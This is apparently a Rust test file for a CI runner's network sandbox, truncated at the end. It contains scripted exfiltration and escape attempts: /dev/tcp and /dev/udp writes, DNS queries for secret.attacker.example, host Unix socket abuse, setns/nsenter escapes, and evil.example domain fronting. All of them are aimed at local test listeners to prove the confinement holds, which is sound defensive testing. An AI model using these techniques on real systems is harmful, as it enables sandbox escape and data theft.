//! The network policy attacked from inside a step: real `bash` processes (and `curl`,
//! `python3`) in the namespace [`confine`] makes, against listeners this test opens on the
//! host's loopback. Each attack is also run once without the namespace, which must reach
//! its listener: that is what shows the test would fail without the confinement.
//!
//! Network namespaces need a root runner; elsewhere the namespace tests check only that
//! the step fails closed.
//!
//! Why one file past ~600 lines: attacks on the network namespace from real processes, each
//! also run without it as a control; they share the listeners and the confinement fixture.

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::sync::mpsc;
use tokio_util::sync::CancellationToken;

use super::*;
use crate::process::{self, ProcessSpec};

fn root() -> bool {
    nix::unistd::geteuid().is_root()
}

/// A listener on the host's loopback that records every byte any client sends it.
struct Listener {
    port: u16,
    received: Arc<Mutex<Vec<u8>>>,
    connections: Arc<Mutex<usize>>,
}

impl Listener {
    async fn tcp(address: &str) -> Listener {
        let listener = tokio::net::TcpListener::bind((address, 0)).await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let received = Arc::new(Mutex::new(Vec::new()));
        let connections = Arc::new(Mutex::new(0));
        let (bytes, count) = (received.clone(), connections.clone());
        tokio::spawn(async move {
            while let Ok((mut stream, _)) = listener.accept().await {
                *count.lock().unwrap() += 1;
                let bytes = bytes.clone();
                tokio::spawn(async move {
                    let mut buffer = [0u8; 4096];
                    while let Ok(n) = stream.read(&mut buffer).await {
                        if n == 0 {
                            break;
                        }
                        bytes.lock().unwrap().extend_from_slice(&buffer[..n]);
                    }
                });
            }
        });
        Listener {
            port,
            received,
            connections,
        }
    }

    async fn udp(address: &str) -> Listener {
        let socket = tokio::net::UdpSocket::bind((address, 0)).await.unwrap();
        let port = socket.local_addr().unwrap().port();
        let received = Arc::new(Mutex::new(Vec::new()));
        let bytes = received.clone();
        tokio::spawn(async move {
            let mut buffer = [0u8; 4096];
            while let Ok(n) = socket.recv(&mut buffer).await {
                bytes.lock().unwrap().extend_from_slice(&buffer[..n]);
            }
        });
        Listener {
            port,
            received,
            connections: Arc::new(Mutex::new(0)),
        }
    }

    fn heard(&self) -> bool {
        *self.connections.lock().unwrap() > 0 || !self.received.lock().unwrap().is_empty()
    }
}

/// A tiny HTTP server on the host's loopback answering `hello from <name>` to anything.
async fn http_server(name: &'static str) -> u16 {
    let listener = tokio::net::TcpListener::bind(("127.0.0.1", 0))
        .await
        .unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            tokio::spawn(async move {
                let mut head = Vec::new();
                let mut buffer = [0u8; 1024];
                while !head.windows(4).any(|w| w == b"\r\n\r\n") {
                    match stream.read(&mut buffer).await {
                        Ok(0) | Err(_) => return,
                        Ok(n) => head.extend_from_slice(&buffer[..n]),
                    }
                }
                let body = format!("hello from {name}\n");
                let answer = format!(
                    "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                    body.len()
                );
                let _ = stream.write_all(answer.as_bytes()).await;
            });
        }
    });
    port
}

/// Runs `script` with bash, in `network`'s namespace when given; its stdout and stderr.
async fn run(script: &str, network: Option<&StepNetwork>) -> String {
    run_as(script, network, None).await
}

/// [`run`] as `user` (with its private mounts, as a root runner runs a step) when given.
async fn run_as(
    script: &str,
    network: Option<&StepNetwork>,
    user: Option<crate::step_user::StepUser>,
) -> String {
    let mut env = BTreeMap::from([("PATH".to_owned(), "/usr/bin:/bin".to_owned())]);
    if let Some(network) = network {
        network.set_env(&mut env);
    }
    let spec = ProcessSpec {
        program: "/bin/bash".into(),
        args: vec!["-c".into(), script.into()],
        cwd: std::env::temp_dir(),
        env,
        user,
        timeout: Duration::from_secs(60),
        masker: Default::default(),
        fresh_interpreter: false,
        network: network.and_then(|n| n.namespace().cloned()),
    };
    let (tx, mut rx) = mpsc::channel::<(Stream, String)>(64);
    let collect = tokio::spawn(async move {
        let mut text = String::new();
        while let Some((_, line)) = rx.recv().await {
            text.push_str(&line);
            text.push('\n');
        }
        text
    });
    process::run(spec, tx, CancellationToken::new())
        .await
        .expect("bash runs");
    collect.await.unwrap()
}

/// Every way out a step might try, each aimed at one of the test's listeners.
fn escape_attempts(tcp: &Listener, other: &Listener, udp: &Listener, proxy: &Listener) -> String {
    let (tcp, other, udp, proxy) = (tcp.port, other.port, udp.port, proxy.port);
    format!(
        r#"
        echo "secret=s3cr3t" > /dev/tcp/127.0.0.1/{tcp} && echo "tcp: sent"
        echo "secret=s3cr3t" > /dev/tcp/127.0.0.2/{other} && echo "other loopback: sent"
        echo "secret.attacker.example" > /dev/udp/127.0.0.1/{udp} && echo "udp: sent"
        python3 - <<'PY' && echo "dns: sent"
import socket
query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x08attacker\x07example\x00\x00\x01\x00\x01"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(1)
s.sendto(query, ("127.0.0.1", {udp}))
try:
    s.recv(512)
except OSError:
    pass
PY
        python3 -c 'import socket; socket.getaddrinfo("secret.attacker.example", 80)' 2>/dev/null && echo "resolved"
        python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).sendto(b"x" * 8, ("127.0.0.1", 0))' 2>/dev/null && echo "raw: sent"
        export HTTPS_PROXY=http://127.0.0.1:{proxy} http_proxy=http://127.0.0.1:{proxy} NO_PROXY=
        curl -s -m 3 -o /dev/null http://secret.attacker.example/s3cr3t; echo "curl via own proxy: $?"
        true
        "#
    )
}

#[tokio::test]
async fn a_step_without_network_reaches_no_listener_of_the_host() {
    let (log, _keep) = mpsc::channel(16);
    if !root() {
        let failed = confine(&NetworkPolicy::None, &log).await.err().unwrap();
        assert!(
            failed.contains("never runs with the host's network"),
            "{failed}"
        );
        return;
    }
    let tcp = Listener::tcp("127.0.0.1").await;
    let other = Listener::tcp("127.0.0.2").await;
    let udp = Listener::udp("127.0.0.1").await;
    let proxy = Listener::tcp("127.0.0.1").await;
    let confined = confine(&NetworkPolicy::None, &log).await.unwrap().unwrap();
    let printed = run(
        &escape_attempts(&tcp, &other, &udp, &proxy),
        Some(&confined),
    )
    .await;
    // The step's own loopback works: the namespace is not simply broken.
    let own = run(
        "python3 -c 'import socket; s=socket.socket(); s.bind((\"127.0.0.1\", 0)); s.listen(); \
         c=socket.create_connection(s.getsockname()); print(\"own loopback: ok\")'",
        Some(&confined),
    )
    .await;
    assert_eq!(confined.finish().await, 0);
    tokio::time::sleep(Duration::from_millis(200)).await;
    for (name, listener) in [
        ("tcp", &tcp),
        ("127.0.0.2", &other),
        ("udp", &udp),
        ("proxy", &proxy),
    ] {
        assert!(
            !listener.heard(),
            "the {name} listener heard the step:\n{printed}"
        );
    }
    for sent in ["tcp: sent", "other loopback: sent", "resolved"] {
        assert!(!printed.contains(sent), "{sent}:\n{printed}");
    }
    assert!(own.contains("own loopback: ok"), "{own}");

    // Without the namespace the very same attempts reach every listener.
    let printed = run(&escape_attempts(&tcp, &other, &udp, &proxy), None).await;
    tokio::time::sleep(Duration::from_millis(200)).await;
    for (name, listener) in [
        ("tcp", &tcp),
        ("127.0.0.2", &other),
        ("udp", &udp),
        ("proxy", &proxy),
    ] {
        assert!(
            listener.heard(),
            "without the namespace the {name} listener heard nothing:\n{printed}"
        );
    }
}

#[tokio::test]
async fn an_allow_list_reaches_only_its_hosts_through_the_proxy() {
    let (log, mut lines) = mpsc::channel(16);
    let allowed = http_server("allowed").await;
    let listed_elsewhere = http_server("other").await;
    let policy = NetworkPolicy::Allow(vec![format!("127.0.0.1:{allowed}")]);
    if !root() {
        assert!(confine(&policy, &log).await.is_err());
        return;
    }
    let direct = Listener::tcp("127.0.0.1").await;
    let confined = confine(&policy, &log).await.unwrap().unwrap();
    let mut env = BTreeMap::new();
    confined.set_env(&mut env);
    let proxy = env["HTTPS_PROXY"].clone();
    assert!(proxy.starts_with("http://127.0.0.1:"), "{env:?}");
    for key in ["HTTP_PROXY", "https_proxy", "http_proxy"] {
        assert_eq!(env[key], proxy);
    }
    // The list names 127.0.0.1 (the host's): only `localhost` stays the step's own.
    assert_eq!(env["NO_PROXY"], "localhost");
    let printed = run(
        &format!(
            r#"
            curl -s -m 5 --noproxy '' -x "$HTTP_PROXY" http://127.0.0.1:{allowed}/
            curl -s -m 5 --noproxy '' -x "$HTTP_PROXY" -o /dev/null -w 'other: %{{http_code}}\n' http://127.0.0.1:{listed_elsewhere}/
            curl -s -m 5 --noproxy '' -x "$HTTP_PROXY" -p -o /dev/null -w 'tunnel: %{{http_code}}\n' http://example.com:443/
            echo "secret" > /dev/tcp/127.0.0.1/{direct} && echo "direct: sent"
            true
            "#,
            direct = direct.port
        ),
        Some(&confined),
    )
    .await;
    assert_eq!(confined.finish().await, 2, "{printed}");
    drop(log);
    let mut said = Vec::new();
    while let Some((stream, line)) = lines.recv().await {
        assert_eq!(stream, Stream::System);
        said.push(line);
    }
    assert!(printed.contains("hello from allowed"), "{printed}");
    assert!(printed.contains("other: 403"), "{printed}");
    assert!(!printed.contains("hello from other"), "{printed}");
    assert!(!printed.contains("direct: sent"), "{printed}");
    assert!(!direct.heard());
    assert_eq!(
        said,
        [
            format!(
                "network: refused 127.0.0.1:{listed_elsewhere} (not in this step's allow-list)"
            ),
            "network: refused example.com:443 (not in this step's allow-list)".to_owned(),
        ]
    );
}

#[tokio::test]
async fn open_costs_nothing_and_changes_nothing() {
    let (log, _keep) = mpsc::channel(1);
    assert!(confine(&NetworkPolicy::Open, &log).await.unwrap().is_none());
}

/// The proxy alone, on a listener of the host's: a tunnel to an allowed address whose TLS
/// ClientHello names another host is cut before a byte reaches the upstream.
#[tokio::test]
async fn a_tunnel_whose_server_name_is_not_listed_is_cut() {
    let upstream = Listener::tcp("127.0.0.1").await;
    let allow =
        allow::AllowList::parse(&[format!("127.0.0.1:{}", upstream.port), "pypi.org".into()])
            .unwrap();
    let listener = tokio::net::TcpListener::bind(("127.0.0.1", 0))
        .await
        .unwrap();
    let proxy_port = listener.local_addr().unwrap().port();
    let (log, mut lines) = mpsc::channel(16);
    let proxy = proxy::Proxy::serve(listener, None, allow, log);
    let tunnel = |name: Option<&'static str>| async move {
        let mut client = tokio::net::TcpStream::connect(("127.0.0.1", proxy_port))
            .await
            .unwrap();
        client
            .write_all(format!("CONNECT 127.0.0.1:{} HTTP/1.1\r\n\r\n", upstream.port).as_bytes())
            .await
            .unwrap();
        let mut answer = [0u8; 39];
        client.read_exact(&mut answer).await.unwrap();
        assert!(answer.starts_with(b"HTTP/1.1 200"));
        client.write_all(&sni::hello_for(name)).await.unwrap();
        let mut rest = Vec::new();
        let _ = tokio::time::timeout(Duration::from_secs(2), client.read_to_end(&mut rest)).await;
    };
    tunnel(Some("evil.example")).await;
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert!(!upstream.heard() || upstream.received.lock().unwrap().is_empty());
    let before = upstream.received.lock().unwrap().len();
    assert_eq!(before, 0);
    // A hello naming an allowed host (or none) goes through.
    tunnel(Some("pypi.org")).await;
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert!(!upstream.received.lock().unwrap().is_empty());
    assert_eq!(proxy.finish().await, 1);
    assert_eq!(
        lines.recv().await.unwrap().1,
        "network: refused evil.example:PORT (TLS server name not in this step's allow-list)"
            .replace("PORT", &upstream.port.to_string())
    );
}

/// A python step is forked from the runner's warm interpreter, which lives in the runner's
/// namespace: one whose network is not `open` runs a fresh interpreter that joins the
/// step's (the same spec on the host's network is served warm and reaches the listener).
#[tokio::test]
async fn a_python_step_in_a_namespace_never_runs_warm() {
    if !root() {
        return;
    }
    let listener = Listener::tcp("127.0.0.1").await;
    let script = format!(
        "import socket\ntry:\n    socket.create_connection(('127.0.0.1', {}), 3).sendall(b'secret')\n    print('sent')\nexcept OSError as e:\n    print('refused:', e)\n",
        listener.port
    );
    let python = |network: Option<&StepNetwork>| ProcessSpec {
        program: "/usr/bin/python3".into(),
        args: vec!["-u".into(), "-c".into(), script.clone()],
        cwd: std::env::temp_dir(),
        env: BTreeMap::from([
            ("PATH".to_owned(), "/usr/bin:/bin".to_owned()),
            ("HOME".to_owned(), "/nonexistent".to_owned()),
        ]),
        user: None,
        timeout: Duration::from_secs(60),
        masker: Default::default(),
        fresh_interpreter: false,
        network: network.and_then(|n| n.namespace().cloned()),
    };
    let printed = |spec| async move {
        let (tx, mut rx) = mpsc::channel::<(Stream, String)>(64);
        process::run(spec, tx, CancellationToken::new())
            .await
            .unwrap();
        let mut text = String::new();
        while let Some((_, line)) = rx.recv().await {
            text.push_str(&line);
        }
        text
    };
    let (log, _keep) = mpsc::channel(1);
    // Warm first, so a zygote is there to be (wrongly) used.
    assert!(printed(python(None)).await.contains("sent"));
    tokio::time::sleep(Duration::from_millis(200)).await;
    listener.received.lock().unwrap().clear();
    *listener.connections.lock().unwrap() = 0;
    let confined = confine(&NetworkPolicy::None, &log).await.unwrap().unwrap();
    let text = printed(python(Some(&confined))).await;
    confined.finish().await;
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert!(text.contains("refused:"), "{text}");
    assert!(!listener.heard(), "{text}");
}

/// Removes the test's socket, and the directory when the test made it, however it ends.
struct Planted {
    socket: std::path::PathBuf,
    made_dir: Option<&'static std::path::Path>,
}

impl Drop for Planted {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.socket);
        if let Some(dir) = self.made_dir {
            let _ = std::fs::remove_dir(dir);
        }
    }
}

/// A Unix socket bound to a path leads to its daemon in the host's namespace whatever
/// namespace the client is in: through nscd's, systemd-resolved's or the system bus's, a
/// step without network would have the host look up `<secret>.attacker.example`. A
/// listener of the test's in `/run/nscd` stands for nscd: no confined step (run as a step
/// user, as a root runner runs it) reaches it, while the same step on the host's network
/// does — that is what fails without the hiding.
#[tokio::test]
async fn a_confined_step_cannot_ask_the_hosts_resolvers_through_their_sockets() {
    use std::os::unix::fs::PermissionsExt;
    if !root() {
        return;
    }
    let dir = std::path::Path::new("/run/nscd");
    let made_dir = (!dir.exists()).then(|| {
        std::fs::create_dir_all(dir).unwrap();
        std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o755)).unwrap();
        dir
    });
    let planted = Planted {
        socket: dir.join(format!("plue-attack-{}.sock", std::process::id())),
        made_dir,
    };
    let _ = std::fs::remove_file(&planted.socket);
    let listener = tokio::net::UnixListener::bind(&planted.socket).unwrap();
    std::fs::set_permissions(&planted.socket, std::fs::Permissions::from_mode(0o777)).unwrap();
    let heard = Arc::new(Mutex::new(0usize));
    let count = heard.clone();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            *count.lock().unwrap() += 1;
            tokio::spawn(async move {
                let mut sink = Vec::new();
                let _ = stream.read_to_end(&mut sink).await;
            });
        }
    });
    let script = format!(
        "python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); \
         s.connect(\"{}\"); s.sendall(b\"secret.attacker.example\"); print(\"sent\")' 2>&1 \
         || echo refused",
        planted.socket.display()
    );
    let user = crate::step_user::StepUser {
        uid: 3_999_021,
        gid: 3_999_021,
    };
    let (log, _keep) = mpsc::channel(16);
    // As a step user (a root runner), and as the runner's own user (one with
    // CAP_SYS_ADMIN but no step users): a mount namespace of its own either way.
    for (policy, user) in [
        (NetworkPolicy::None, Some(user)),
        (NetworkPolicy::Allow(vec!["127.0.0.1:1".into()]), Some(user)),
        (NetworkPolicy::None, None),
    ] {
        let confined = confine(&policy, &log).await.unwrap().unwrap();
        let printed = run_as(&script, Some(&confined), user).await;
        confined.finish().await;
        assert!(
            printed.contains("refused"),
            "{policy:?} {user:?}: {printed}"
        );
        assert!(!printed.contains("sent"), "{policy:?} {user:?}: {printed}");
    }
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert_eq!(*heard.lock().unwrap(), 0);

    let printed = run_as(&script, None, Some(user)).await;
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert!(printed.contains("sent"), "{printed}");
    assert_eq!(*heard.lock().unwrap(), 1, "{printed}");
}

/// Unix sockets bound to a path reach their daemon whatever network namespace the client
/// is in: a database's in `/run/postgresql`, the Docker socket, one directly in `/tmp`.
/// The test plants listeners in a fresh directory of `/run` (reached as `/var/run/...`
/// too where that is a link) and in `/tmp` itself: no step whose network is not `open`
/// reaches any of them — as a step user or as the runner's own user, `none` or an
/// allow-list — while the step's own sockets work. The same script without the
/// confinement reaches every one (the control: what fails without the hiding), and an
/// `open` step as a step user still reaches the one in `/run`.
#[tokio::test]
async fn a_confined_step_reaches_no_host_socket_by_path() {
    use std::os::unix::fs::PermissionsExt;
    if !root() {
        return;
    }
    let unique = format!(
        "plue-test-{}-{}",
        std::process::id(),
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .subsec_nanos()
    );
    let run_dir: &'static std::path::Path =
        Box::leak(std::path::Path::new("/run").join(&unique).into_boxed_path());
    std::fs::create_dir(run_dir).unwrap();
    std::fs::set_permissions(run_dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    let planted = [
        Planted {
            socket: run_dir.join("s.sock"),
            made_dir: Some(run_dir),
        },
        Planted {
            socket: std::path::Path::new("/tmp").join(format!("{unique}.sock")),
            made_dir: None,
        },
    ];
    let heard = Arc::new(Mutex::new(Vec::<usize>::new()));
    for (index, planted) in planted.iter().enumerate() {
        let listener = tokio::net::UnixListener::bind(&planted.socket).unwrap();
        std::fs::set_permissions(&planted.socket, std::fs::Permissions::from_mode(0o777)).unwrap();
        let heard = heard.clone();
        tokio::spawn(async move {
            while let Ok((mut stream, _)) = listener.accept().await {
                heard.lock().unwrap().push(index);
                tokio::spawn(async move {
                    let mut sink = Vec::new();
                    let _ = stream.read_to_end(&mut sink).await;
                });
            }
        });
    }
    let mut paths: Vec<String> = planted
        .iter()
        .map(|p| p.socket.display().to_string())
        .collect();
    // The same socket by the other name of /run, where /var/run is a link to it.
    let via_var_run = std::path::Path::new("/var/run")
        .join(&unique)
        .join("s.sock");
    if std::fs::canonicalize(&via_var_run).is_ok_and(|real| real == planted[0].socket) {
        paths.push(via_var_run.display().to_string());
    }
    let script = format!(
        r#"python3 - {paths} <<'PY' 2>&1
import os, socket, sys
for path in sys.argv[1:]:
    try:
        s = socket.socket(socket.AF_UNIX)
        s.connect(path)
        s.sendall(b"secret")
        print("sent", path)
    except OSError as e:
        print("refused", path, e)
own = os.path.join(os.getcwd(), "own-%d.sock" % os.getpid())
server = socket.socket(socket.AF_UNIX)
server.bind(own)
server.listen()
socket.socket(socket.AF_UNIX).connect(own)
os.unlink(own)
print("own socket: ok")
print("run/lock:", os.path.isdir("/run/lock"))
PY
        "#,
        paths = paths.join(" ")
    );
    let user = crate::step_user::StepUser {
        uid: 3_999_023,
        gid: 3_999_023,
    };
    let (log, _keep) = mpsc::channel(16);
    for (policy, user) in [
        (NetworkPolicy::None, Some(user)),
        (NetworkPolicy::Allow(vec!["127.0.0.1:1".into()]), Some(user)),
        (NetworkPolicy::None, None),
    ] {
        let confined = confine(&policy, &log).await.unwrap().unwrap();
        let printed = run_as(&script, Some(&confined), user).await;
        confined.finish().await;
        assert!(!printed.contains("sent"), "{policy:?} {user:?}: {printed}");
        assert_eq!(
            printed.matches("refused").count(),
            paths.len(),
            "{policy:?} {user:?}: {printed}"
        );
        assert!(
            printed.contains("own socket: ok"),
            "{policy:?} {user:?}: {printed}"
        );
        assert!(
            printed.contains("run/lock: True"),
            "{policy:?} {user:?}: {printed}"
        );
    }
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert_eq!(*heard.lock().unwrap(), Vec::<usize>::new());

    // Without the confinement (no namespace, no step user) every path is reached.
    let printed = run_as(&script, None, None).await;
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert_eq!(printed.matches("sent").count(), paths.len(), "{printed}");
    // An open step as a step user: /run is the host's; /tmp is its own room.
    heard.lock().unwrap().clear();
    let printed = run_as(&script, None, Some(user)).await;
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert!(printed.contains(&format!("sent {}", paths[0])), "{printed}");
    assert!(
        printed.contains(&format!("refused {}", paths[1])),
        "{printed}"
    );
}

/// A work directory inside a hidden one (`--work-dir /run/...`) comes back, bound as it
/// was, while the rest of `/run` stays an empty, read-only tmpfs with only the rooms'
/// mount points (`/run/lock`) in it.
#[tokio::test]
async fn a_work_directory_inside_run_comes_back_and_nothing_else_does() {
    use std::os::unix::fs::{chown, PermissionsExt};
    if !root() {
        return;
    }
    let user = crate::step_user::StepUser {
        uid: 3_999_024,
        gid: 3_999_024,
    };
    let entry = std::path::Path::new("/run").join(format!("plue-test-work-{}", std::process::id()));
    struct Removed(std::path::PathBuf);
    impl Drop for Removed {
        fn drop(&mut self) {
            let _ = std::fs::remove_dir_all(&self.0);
        }
    }
    let _removed = Removed(entry.clone());
    let workspace = entry.join("attempt-1/workspace");
    std::fs::create_dir_all(&workspace).unwrap();
    for dir in [&entry, &entry.join("attempt-1")] {
        std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    chown(&workspace, Some(user.uid), Some(user.gid)).unwrap();
    std::fs::write(workspace.join("file"), "kept\n").unwrap();
    let (log, _keep) = mpsc::channel(16);
    let confined = confine(&NetworkPolicy::None, &log).await.unwrap().unwrap();
    let spec = ProcessSpec {
        program: "/bin/bash".into(),
        args: vec![
            "-c".into(),
            "cat file; echo made > made && echo wrote; ls -A /run | tr '\\n' ' '; echo; \
             touch /run/x 2>/dev/null || echo 'run: read-only'"
                .into(),
        ],
        cwd: workspace.clone(),
        env: BTreeMap::from([("PATH".to_owned(), "/usr/bin:/bin".to_owned())]),
        user: Some(user),
        timeout: Duration::from_secs(60),
        masker: Default::default(),
        fresh_interpreter: false,
        network: confined.namespace().cloned(),
    };
    let (tx, mut rx) = mpsc::channel::<(Stream, String)>(64);
    process::run(spec, tx, CancellationToken::new())
        .await
        .unwrap();
    confined.finish().await;
    let mut printed = String::new();
    while let Some((_, line)) = rx.recv().await {
        printed.push_str(&line);
        printed.push('\n');
    }
    let name = entry.file_name().unwrap().to_string_lossy().into_owned();
    let mut listed: Vec<&str> = printed
        .lines()
        .nth(2)
        .unwrap_or_default()
        .split_whitespace()
        .collect();
    listed.sort_unstable();
    let mut expected = vec![name.as_str()];
    if std::path::Path::new("/run/lock").is_dir() {
        expected.push("lock");
        expected.sort_unstable();
    }
    assert!(printed.starts_with("kept\nwrote\n"), "{printed}");
    assert_eq!(listed, expected, "{printed}");
    assert!(printed.contains("run: read-only"), "{printed}");
    // The step's write went to the host's work directory, as it would anywhere else.
    assert_eq!(
        std::fs::read_to_string(workspace.join("made")).unwrap(),
        "made\n"
    );
}

/// A name that resolves to `127.0.0.1` here, other than `localhost` (the host's own name
/// usually does), or `None` on a host where none does.
async fn a_loopback_name() -> Option<String> {
    let own = nix::unistd::gethostname()
        .ok()
        .map(|name| name.to_string_lossy().to_ascii_lowercase());
    let candidates = own
        .into_iter()
        .chain(["localhost.localdomain", "ip6-localhost"].map(String::from));
    for name in candidates {
        let Ok(found) = tokio::net::lookup_host((name.as_str(), 80)).await else {
            continue;
        };
        let found: Vec<_> = found.collect();
        if !found.is_empty() && found.iter().all(|a| a.ip().is_loopback()) {
            return Some(name);
        }
    }
    None
}

/// DNS rebinding, or a `*.` pattern's subdomain pointed at `127.0.0.1`: a listed *name*
/// that resolves to the runner host's loopback reaches nothing there (the proxy alone, on
/// a listener of the host's). The same port through the address the list names is
/// reached: only the name's resolution is refused.
#[tokio::test]
async fn a_listed_name_that_resolves_inside_the_runner_host_is_refused() {
    let Some(name) = a_loopback_name().await else {
        eprintln!("skipped: no name but localhost resolves to loopback on this host");
        return;
    };
    let inside = Listener::tcp("127.0.0.1").await;
    let allow = allow::AllowList::parse(&[
        format!("{name}:{}", inside.port),
        format!("127.0.0.1:{}", inside.port),
    ])
    .unwrap();
    let listener = tokio::net::TcpListener::bind(("127.0.0.1", 0))
        .await
        .unwrap();
    let proxy_port = listener.local_addr().unwrap().port();
    let (log, mut lines) = mpsc::channel(16);
    let proxy = proxy::Proxy::serve(listener, None, allow, log);
    let connect = |host: String| async move {
        let mut client = tokio::net::TcpStream::connect(("127.0.0.1", proxy_port))
            .await
            .unwrap();
        let head = format!("CONNECT {host}:{} HTTP/1.1\r\n\r\nsecret", inside.port);
        client.write_all(head.as_bytes()).await.unwrap();
        let mut answer = Vec::new();
        let _ = tokio::time::timeout(Duration::from_secs(1), client.read_to_end(&mut answer)).await;
        String::from_utf8_lossy(&answer).into_owned()
    };
    let answer = connect(name.clone()).await;
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
    assert!(!inside.heard(), "{name} led to the runner host's loopback");
    let answer = connect("127.0.0.1".into()).await;
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    assert!(inside.heard());
    assert_eq!(proxy.finish().await, 1);
    let said = lines.recv().await.unwrap().1;
    assert!(
        said.starts_with(&format!(
            "network: refused {name}:{} (the name resolves only",
            inside.port
        )),
        "{said}"
    );
}

/// Domain fronting over plain HTTP: a request to an allowed host whose `Host` header names
/// another — a shared front (a CDN) would route it there — is refused before a byte
/// reaches the upstream; the same request naming its own host goes through, forwarded
/// with `Connection: close` so no later request on the connection can name another.
#[tokio::test]
async fn a_plain_request_whose_host_header_names_another_host_is_refused() {
    let upstream = Listener::tcp("127.0.0.1").await;
    let allow = allow::AllowList::parse(&[format!("127.0.0.1:{}", upstream.port)]).unwrap();
    let listener = tokio::net::TcpListener::bind(("127.0.0.1", 0))
        .await
        .unwrap();
    let proxy_port = listener.local_addr().unwrap().port();
    let (log, mut lines) = mpsc::channel(16);
    let proxy = proxy::Proxy::serve(listener, None, allow, log);
    let send = |host: &'static str| async move {
        let mut client = tokio::net::TcpStream::connect(("127.0.0.1", proxy_port))
            .await
            .unwrap();
        let head = format!(
            "GET http://127.0.0.1:{port}/s3cr3t HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n\r\n",
            port = upstream.port
        );
        client.write_all(head.as_bytes()).await.unwrap();
        let mut answer = Vec::new();
        let _ = tokio::time::timeout(Duration::from_secs(1), client.read_to_end(&mut answer)).await;
        String::from_utf8_lossy(&answer).into_owned()
    };
    let answer = send("evil.example").await;
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
    assert!(
        !upstream.heard(),
        "the fronted request reached the upstream"
    );
    let own = Box::leak(format!("127.0.0.1:{}", upstream.port).into_boxed_str());
    send(own).await;
    tokio::time::sleep(Duration::from_millis(200)).await;
    let received = String::from_utf8(upstream.received.lock().unwrap().clone()).unwrap();
    assert_eq!(
        received,
        format!("GET /s3cr3t HTTP/1.1\r\nHost: {own}\r\nConnection: close\r\n\r\n")
    );
    assert_eq!(proxy.finish().await, 1);
    assert_eq!(
        lines.recv().await.unwrap().1,
        "network: refused evil.example (a Host header naming another host than the request's)"
    );
}

/// Back to the host's network: a step user `setns`es into the namespace of pid 1, of the
/// runner (both hidden by `hidepid`), or of a process of its own uid left on the host's
/// network (which it can open), directly or from a user namespace of its own. `setns`
/// into a network namespace needs `CAP_SYS_ADMIN` over the user namespace that owns it —
/// the host's — which no step process has: nothing reaches the listener. (A guard: no fix
/// was needed.)
#[tokio::test]
async fn a_step_user_cannot_setns_back_into_the_hosts_network() {
    if !root() {
        return;
    }
    let listener = Listener::tcp("127.0.0.1").await;
    let user = crate::step_user::StepUser {
        uid: 3_999_022,
        gid: 3_999_022,
    };
    let mut sleeper = {
        use std::os::unix::process::CommandExt;
        std::process::Command::new("/bin/sleep")
            .arg("30")
            .uid(user.uid)
            .gid(user.gid)
            .spawn()
            .unwrap()
    };
    let script = format!(
        r#"
        for ns in /proc/1/ns/net /proc/{runner}/ns/net /proc/{own}/ns/net; do
            python3 - "$ns" <<'PY' 2>&1
import ctypes, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
try:
    fd = open(sys.argv[1], "rb")
except OSError as e:
    print("no", sys.argv[1], e)
    sys.exit()
if libc.setns(fd.fileno(), 0x40000000) != 0:
    print("setns refused:", ctypes.get_errno())
    sys.exit()
socket.create_connection(("127.0.0.1", {port}), 2).sendall(b"secret")
print("escaped")
PY
        done
        unshare -U -r nsenter --net=/proc/{own}/ns/net bash -c 'echo secret > /dev/tcp/127.0.0.1/{port} && echo escaped' 2>&1
        true
        "#,
        runner = std::process::id(),
        own = sleeper.id(),
        port = listener.port
    );
    let (log, _keep) = mpsc::channel(16);
    let confined = confine(&NetworkPolicy::None, &log).await.unwrap().unwrap();
    let printed = run_as(&script, Some(&confined), Some(user)).await;
    confined.finish().await;
    let _ = sleeper.kill();
    let _ = sleeper.wait();
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert!(printed.contains("setns refused: 1"), "{printed}");
    assert!(!printed.contains("escaped"), "{printed}");
    assert!(!listener.heard(), "{printed}");
}

/// A shared front that keeps every connection alive and answers each request head it
/// reads, whatever `Connection: close` said (a front routes each request by its own
/// `Host`); every byte it reads is recorded.
async fn keep_alive_front() -> (u16, Arc<Mutex<Vec<u8>>>) {
    let listener = tokio::net::TcpListener::bind(("127.0.0.1", 0))
        .await
        .unwrap();
    let port = listener.local_addr().unwrap().port();
    let received = Arc::new(Mutex::new(Vec::new()));
    let record = received.clone();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let record = record.clone();
            tokio::spawn(async move {
                let (mut seen, mut answered) = (Vec::new(), 0);
                let mut buffer = [0u8; 4096];
                while let Ok(n) = stream.read(&mut buffer).await {
                    if n == 0 {
                        break;
                    }
